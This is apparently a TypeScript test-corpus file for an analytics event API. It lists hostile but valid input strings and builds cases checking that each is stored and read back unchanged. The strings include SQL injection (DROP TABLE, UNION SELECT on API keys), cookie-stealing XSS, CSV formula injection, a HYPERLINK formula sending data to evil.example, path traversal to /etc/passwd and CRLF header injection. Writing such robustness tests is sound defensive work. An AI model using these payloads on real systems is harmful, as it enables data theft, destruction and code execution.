import { LIMITS } from '@funnelhouse/schemas';
import { body, collector, ev, storedOne } from './build.ts';
import type { CorpusCase } from './types.ts';

/** Text that is valid input but hostile to some reader downstream (SQL, HTML, spreadsheets, bidi). */
export const HOSTILE: [string, string][] = [
  ['sql or', "' OR '1'='1"],
  ['sql drop', "'; DROP TABLE events_v1; --"],
  ['sql union', "x' UNION SELECT name, key_hash FROM api_keys_v1 --"],
  ['sql system', '1; SELECT * FROM system.users'],
  ['sql comment', "/* */ admin'--"],
  ['sql like', "%' AND 1=1 --"],
  ['sql double quote', '" OR ""="'],
  ['clickhouse param', '{site:String}'],
  ['clickhouse identifier', '{db:Identifier}.events_v1'],
  ['clickhouse settings', "x' SETTINGS readonly=0 --"],
  ['postgres param', '$1 $2 ?'],
  ['backslashes', 'C:\\Users\\x\\\\server\\share\\'],
  ['escaped quote', "\\' \\\" \\\\'"],
  ['script tag', '<script>alert(document.cookie)</script>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['svg onload', '"><svg/onload=alert(1)>'],
  ['close title', '</title><script>alert(1)</script>'],
  ['html comment', '<!-- x --><![CDATA[ ]]>'],
  ['entities', '&lt;b&gt; &amp;amp; &#x3C;'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, on purpose
  ['template', '{{constructor.constructor("alert(1)")()}} ${7*7} #{7*7}'],
  ['javascript url text', 'javascript:alert(1)'],
  ['csv formula cmd', "=cmd|' /C calc'!A0"],
  ['csv formula plus', "+SUM(1+1)*cmd|' /C calc'!A0"],
  ['csv formula minus', "-2+3+cmd|' /C calc'!A0"],
  ['csv formula at', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['csv hyperlink', '=HYPERLINK("http://evil.example/?x="&A1,"Click")'],
  ['csv tab formula', '\t=1+1'],
  ['csv cr formula', '\r=1+1'],
  ['csv separators', 'a,b;c\td"e"\n"f'],
  ['rtl override', 'invoice\u202Efdp.exe'],
  ['bidi isolates', '\u2066abc\u2069\u2067def\u2069\u2068ghi\u2069'],
  ['zero width', 'a\u200Bb\u200Cc\u200Dd\u2060e'],
  ['bom inside', 'x\uFEFFy'],
  ['bom first', '\uFEFFstarts with a BOM'],
  ['control chars', 'a\u0001b\u0007c\u0008d\u000Be\u000Cf\u001Bg\u001Fh'],
  ['del and c1', '\u007F\u0080\u0085\u009B\u009F'],
  ['newlines', 'line1\nline2\r\nline3\rline4'],
  ['line separators', 'a\u2028b\u2029c'],
  ['nul', 'before\u0000after'],
  ['emoji', '😀🎉🛒💳'],
  ['emoji zwj family', '👨‍👩‍👧‍👦 👩🏽‍💻'],
  ['flags', '🇩🇪🇫🇷🇯🇵🏴󠁧󠁢󠁳󠁣󠁴󠁿'],
  ['math alphanumerics', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝕿𝖊𝖝𝖙 𝒮𝒸𝓇𝒾𝓅𝓉'],
  ['surrogate heavy', '𠜎𠜱𠝹𠱓𠱸𠲖𠳏𠳕𠴕𠵼𠵿𠸎'.repeat(10)],
  ['zalgo', 'Z̷̢̛͉̙̟a̸̧̛͎̝l̶̨̛̼g̷̢̛̼ơ̵̧̺'],
  ['nfd', 'Cafe\u0301 e\u0301te\u0301'],
  ['nfc', 'Café été'],
  ['cjk', '购物车 ショッピングカート 장바구니'],
  ['rtl scripts', 'سلة التسوق עגלת קניות'],
  ['indic', 'खरीदारी की टोकरी ตะกร้าสินค้า'],
  ['fullwidth', 'ＳＥＬＥＣＴ＊ＦＲＯＭ'],
  ['homoglyphs', 'pаypаl.com аdmin'],
  ['noncharacters', 'x\uFFFEy\uFFFFz\uFDD0'],
  ['private use', '\uE000\uF8FF\u{F0000}'],
  ['tag characters', 'a\u{E0001}\u{E0041}\u{E007F}b'],
  ['replacement char', '\uFFFD\uFFFD'],
  ['format string', '%s%s%s%n %x %d {0} %(x)s'],
  ['path traversal', '../../../../etc/passwd'],
  ['json inside', '{"site":"other","events":[]}'],
  ['crlf header injection', 'x\r\nSet-Cookie: a=b\r\n\r\n'],
  ['only spaces', '   '],
  ['long mixed', 'Ω≈ç√∫˜µ≤≥÷😀<>&\'"'.repeat(20)],
];

/** The longest prefix of `s` within `n` UTF-16 units that does not split a surrogate pair. */
export function cut(s: string, n: number): string {
  let out = '';
  for (const ch of s) {
    if (out.length + ch.length > n) break;
    out += ch;
  }
  return out;
}

/** Lone surrogates are repaired to U+FFFD (what a UTF-8 encoder does); pairs are kept. */
const REPAIRED: [string, string, string][] = [
  ['lone high surrogate', 'a\uD800b', 'a\uFFFDb'],
  ['lone low surrogate', '\uDC00x', '\uFFFDx'],
  ['reversed pair', '\uDE00\uD83D', '\uFFFD\uFFFD'],
  ['pair then lone', '😀\uD83D', '😀\uFFFD'],
];

/**
 * Hostile but valid text in every free-text place an event has; each case must be stored and
 * read back through the API exactly as sent.
 */
export function hostileStrings(): CorpusCase[] {
  const { out, add } = collector('hostile_text', 'text');
  HOSTILE.forEach(([name, s], i) => {
    const id = `t${i}`;
    add(`title/${name}`, {
      body: body([ev(id, { title: s })]),
      expect: storedOne([{ event_id: id, column: 'title', value: s }]),
    });
  });
  // Each string once more in another field, rotating through them so every field sees many.
  const fields: [
    string,
    (s: string) => Record<string, unknown>,
    (id: string, s: string) => [string, unknown],
  ][] = [
    ['prop value', (s) => ({ props: { note: s } }), (_id, s) => ['props.note', s]],
    [
      'click text',
      (s) => ({ type: 'click', el: { tag: 'button', text: cut(s, LIMITS.textLength) } }),
      (_id, s) => ['el_text', cut(s, LIMITS.textLength)],
    ],
    ['custom name', (s) => ({ type: 'custom', name: cut(s, 128) }), (_id, s) => ['name', cut(s, 128)]],
    [
      'form field',
      (s) => ({ type: 'form_submit', form: { id: 'f', fields: [cut(s, 256)] } }),
      (_id, s) => ['form_fields', [cut(s, 256)]],
    ],
    [
      'item name',
      (s) => ({ type: 'add_to_cart', items: [{ id: 'sku', name: cut(s, 500) }] }),
      (_id, s) => [
        'items',
        [{ id: 'sku', name: cut(s, 500), price: 0, quantity: 1, category: '', variant: '' }],
      ],
    ],
    ['utm campaign', (s) => ({ utm: { campaign: cut(s, 500) } }), (_id, s) => ['utm_campaign', cut(s, 500)]],
    ['user id', (s) => ({ user_id: cut(s, 128) }), (_id, s) => ['user_id', cut(s, 128)]],
    [
      'prop key',
      (s) => ({ props: { [cut(s, 64) || 'k']: 'v' } }),
      (_id, s) => [`props.${cut(s, 64) || 'k'}`, 'v'],
    ],
  ];
  HOSTILE.forEach(([name, s], i) => {
    const [field, make, read] = fields[i % fields.length] as (typeof fields)[number];
    if (s.trim() === '' && field === 'prop key') return; // blank keys are legal but unhelpful here
    const id = `f${i}`;
    const [column, value] = read(id, s);
    add(`${field}/${name}`, {
      body: body([ev(id, make(s))]),
      expect: storedOne([{ event_id: id, column, value }]),
    });
  });
  HOSTILE.slice(0, 12).forEach(([name, s], i) => {
    const id = `${cut(s, 100)}#${i}`; // hostile text as the event id itself
    add(`event id/${name}`, {
      body: body([ev(id)]),
      expect: storedOne([{ event_id: id, column: 'event_id', value: id }]),
    });
  });
  for (const [name, s, stored] of REPAIRED) {
    add(`repaired/${name}`, {
      body: body([ev(name, { title: s })]),
      expect: storedOne([{ event_id: name, column: 'title', value: stored }]),
    });
  }
  // Long but within every limit.
  const long: [string, Record<string, unknown>, string, unknown][] = [
    ['title at limit', { title: 'T'.repeat(LIMITS.textLength) }, 'title', 'T'.repeat(LIMITS.textLength)],
    [
      'title of emoji at limit',
      { title: '😀'.repeat(LIMITS.textLength / 2) },
      'title',
      '😀'.repeat(LIMITS.textLength / 2),
    ],
    [
      'prop value at limit',
      { props: { k: '<'.repeat(LIMITS.valueLength) } },
      'props.k',
      '<'.repeat(LIMITS.valueLength),
    ],
    [
      'prop value of CJK at limit',
      { props: { k: '购'.repeat(LIMITS.valueLength) } },
      'props.k',
      '购'.repeat(LIMITS.valueLength),
    ],
    [
      'prop key at limit',
      { props: { ['🔑'.repeat(LIMITS.keyLength / 2)]: 'v' } },
      `props.${'🔑'.repeat(LIMITS.keyLength / 2)}`,
      'v',
    ],
    [
      'click text at limit',
      { type: 'click', el: { tag: 'a', text: '=1+1'.repeat(125) } },
      'el_text',
      '=1+1'.repeat(125),
    ],
  ];
  for (const [name, over, column, value] of long) {
    const id = `long-${name}`;
    add(`long/${name}`, { body: body([ev(id, over)]), expect: storedOne([{ event_id: id, column, value }]) });
  }
  const fifty = Object.fromEntries(
    HOSTILE.slice(0, LIMITS.props).map(([n, s]) => [n, cut(s, LIMITS.valueLength)]),
  );
  add('long/50 hostile props', {
    body: body([ev('fifty', { props: fifty })]),
    expect: storedOne(
      Object.entries(fifty).map(([k, v]) => ({ event_id: 'fifty', column: `props.${k}`, value: v })),
    ),
  });
  return out;
}
